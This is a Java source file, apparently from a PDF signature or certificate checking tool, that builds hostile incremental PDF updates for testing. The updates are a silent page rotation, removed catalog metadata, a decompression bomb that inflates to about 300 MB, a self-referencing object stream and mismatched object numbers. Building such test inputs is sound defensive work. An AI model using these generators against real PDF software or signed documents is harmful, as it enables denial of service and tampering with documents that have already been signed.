package vn.certproc.checks.attacks;

import java.io.ByteArrayOutputStream;
import java.util.Arrays;
import java.util.zip.Deflater;
import java.util.zip.DeflaterOutputStream;
import org.apache.pdfbox.cos.COSDictionary;
import org.apache.pdfbox.cos.COSName;

/** Updates whose objects are in a stream of objects (ISO 32000-2 §7.5.7), as few readers expect. */
final class PackedObjects {

  private static final int BOMB = 300 * 1024 * 1024;

  private PackedObjects() {}

  /** The first page is turned on its head. */
  static byte[] page(byte[] file) {
    return Entry.read(
        file,
        victim -> {
          COSDictionary page = new COSDictionary(victim.page());
          page.setInt(COSName.ROTATE, 180);
          return packed(victim, Victim.number(victim.page()), CosText.of(page), 0);
        });
  }

  /** The catalog has no form. */
  static byte[] catalog(byte[] file) {
    return Entry.read(
        file,
        victim -> {
          COSDictionary catalog = new COSDictionary(victim.catalog());
          catalog.removeItem(COSName.METADATA);
          return packed(victim, Victim.number(victim.catalog()), CosText.of(catalog), 0);
        });
  }

  /** A few kilobytes that unpack to hundreds of megabytes. */
  static byte[] bomb(byte[] file) {
    return Entry.read(
        file, victim -> packed(victim, Victim.number(victim.page()), CosText.bytes("null"), BOMB));
  }

  /** The stream of objects is in itself. */
  static byte[] inItself(byte[] file) {
    return Entry.read(
        file,
        victim -> {
          int stream = victim.size();
          return closed(victim, new byte[0], victim.file().length, stream, row(2, stream, 0));
        });
  }

  /** The entry says one object, the stream another. */
  static byte[] otherNumber(byte[] file) {
    return Entry.read(
        file,
        victim -> {
          int number = Victim.number(victim.page());
          byte[] stream = objects(victim.size(), number + 1, CosText.bytes("<<>>"), 0);
          return closed(
              victim, stream, victim.file().length, number, row(2, victim.size(), 0));
        });
  }

  private static byte[] packed(Victim victim, int number, byte[] value, int zeros) {
    byte[] stream = objects(victim.size(), number, value, zeros);
    return closed(victim, stream, victim.file().length, number, row(2, victim.size(), 0));
  }

  /** A stream that holds one object. */
  private static byte[] objects(int stream, int number, byte[] value, int spaces) {
    byte[] head = CosText.bytes(number + " 0 ");
    ByteArrayOutputStream packed = new ByteArrayOutputStream();
    try (DeflaterOutputStream out =
        new DeflaterOutputStream(packed, new Deflater(Deflater.BEST_SPEED))) {
      out.write(head);
      out.write(value);
      byte[] space = new byte[64 * 1024];
      Arrays.fill(space, (byte) ' ');
      for (int i = 0; i < spaces; i += space.length) {
        out.write(space);
      }
    } catch (java.io.IOException e) {
      throw new java.io.UncheckedIOException(e);
    }
    String dictionary =
        stream
            + " 0 obj\n<</Type/ObjStm/N 1/First "
            + head.length
            + "/Filter/FlateDecode/Length "
            + packed.size()
            + ">>\nstream\n";
    ByteArrayOutputStream all = new ByteArrayOutputStream();
    all.writeBytes(CosText.bytes(dictionary));
    all.writeBytes(packed.toByteArray());
    all.writeBytes(CosText.bytes("\nendstream\nendobj\n"));
    return all.toByteArray();
  }

  private static byte[] row(int type, int second, int third) {
    return new byte[] {
      (byte) type, (byte) (second >> 24), (byte) (second >> 16), (byte) (second >> 8),
      (byte) second, (byte) third
    };
  }

  /** The file, a stream of objects, and a cross-reference stream for it. */
  private static byte[] closed(Victim victim, byte[] stream, int at, int number, byte[] row) {
    int objects = victim.size();
    int table = objects + 1;
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    out.writeBytes(victim.file());
    out.writeBytes(stream);
    int place = out.size();
    ByteArrayOutputStream rows = new ByteArrayOutputStream();
    rows.writeBytes(row);
    if (number != objects) {
      rows.writeBytes(row(1, at, 0));
    }
    rows.writeBytes(row(1, place, 0));
    String index =
        number == objects ? objects + " 2" : number + " 1 " + objects + " 2";
    String dictionary =
        table
            + " 0 obj\n<</Type/XRef/W[1 4 1]/Index["
            + index
            + "]/Size "
            + (table + 1)
            + "/Root "
            + CosText.text(victim.trailer().getItem(COSName.ROOT))
            + ids(victim)
            + "/Prev "
            + Update.startxref(victim.file())
            + "/Length "
            + rows.size()
            + ">>\nstream\n";
    out.writeBytes(CosText.bytes(dictionary));
    out.writeBytes(rows.toByteArray());
    out.writeBytes(
        CosText.bytes("\nendstream\nendobj\nstartxref\n" + place + "\n%%EOF\n"));
    return out.toByteArray();
  }

  private static String ids(Victim victim) {
    String text = "";
    for (COSName key : new COSName[] {COSName.INFO, COSName.ID}) {
      if (victim.trailer().containsKey(key)) {
        text += "/" + key.getName() + " " + CosText.text(victim.trailer().getItem(key));
      }
    }
    return text;
  }
}
